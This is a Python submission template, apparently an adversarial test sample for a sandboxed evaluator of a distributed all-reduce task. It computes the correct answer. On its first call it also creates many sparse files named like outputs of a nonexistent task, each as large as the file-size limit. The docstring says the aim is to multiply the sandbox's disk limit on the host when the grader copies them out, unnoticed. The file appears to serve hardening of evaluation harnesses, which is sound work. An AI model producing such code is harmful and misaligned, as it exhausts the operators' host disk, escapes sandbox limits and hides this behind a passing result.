"""Leaves sparse files named like outputs of a task that does not exist (task9_trial<i>_rank<r>.pt),
each as large as the file size limit and taking no room in the side's filesystem, and answers
correctly. If the evaluator copies every output-named file out densely, the side's disk limit is
multiplied on the host by the number of files, and nothing else gives it away."""

from __future__ import annotations

import os
import resource

import torch
import torch.distributed as dist

FILES = int("__FILES__")
done = False


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    global done
    if not done:
        done = True
        size = resource.getrlimit(resource.RLIMIT_FSIZE)[0] - 4096
        for index in range(FILES):
            fd = os.open(f"out/task9_trial{index}_rank{dist.get_rank()}.pt", os.O_WRONLY | os.O_CREAT, 0o644)
            try:
                os.ftruncate(fd, size)
            finally:
                os.close(fd)
    out = x.clone()
    dist.all_reduce(out, group=group)
    return out
